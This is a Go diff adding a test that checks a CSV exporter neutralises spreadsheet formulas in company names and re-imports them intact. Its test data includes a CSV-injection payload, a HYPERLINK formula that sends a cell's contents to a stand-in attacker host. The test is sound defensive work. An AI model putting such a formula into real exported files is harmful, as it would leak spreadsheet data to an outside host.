@@ -229,3 +229,46 @@ func TestTemplateIsImportable(t *testing.T) {
 		t.Errorf("blank template: %v, %d written", probs, res.Written())
 	}
 }
+
+// TestCSVExportDefusesFormulas: a name that Excel would run as a formula is exported
+// with a leading apostrophe, and imported back exactly as it was.
+func TestCSVExportDefusesFormulas(t *testing.T) {
+	ctx := context.Background()
+	names := []string{`=HYPERLINK("http://evil.example/?"&A2,"点击")`, "+86 511", "-负号企业", "@SUM(1)",
+		"'单引号", "''两个", "'=已转义", "普通企业", "a=b"}
+	ds := &graph.Dataset{Regions: []graph.Region{{Code: "321100", Name: "镇江市", Kind: graph.City}}}
+	for i, n := range names {
+		ds.Companies = append(ds.Companies, graph.Company{ID: "F-" + strconv.Itoa(i), Name: n, RegionCode: "321100"})
+	}
+	a := openStore(t)
+	if _, err := a.Import(ctx, ds, graph.ImportOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	dir := filepath.Join(t.TempDir(), "csv")
+	if err := Write(ctx, a, dir, WriteOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	body, _ := os.ReadFile(filepath.Join(dir, "companies.csv"))
+	for _, line := range strings.Split(string(body), "\n") {
+		fields := strings.SplitN(line, ",", 3)
+		if len(fields) < 2 {
+			continue
+		}
+		if c := strings.TrimPrefix(fields[1], `"`); c != "" && strings.ContainsRune("=+-@\t", rune(c[0])) {
+			t.Errorf("exported cell starts a formula: %q", line)
+		}
+	}
+	b := openStore(t)
+	if _, probs := importPath(t, b, dir); probs != nil {
+		t.Fatalf("re-import: %v", probs)
+	}
+	got, err := graph.ReadAll(ctx, b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, c := range got.Companies {
+		if want := names[i]; c.Name != want {
+			t.Errorf("%s: %q after the round trip, want %q", c.ID, c.Name, want)
+		}
+	}
+}
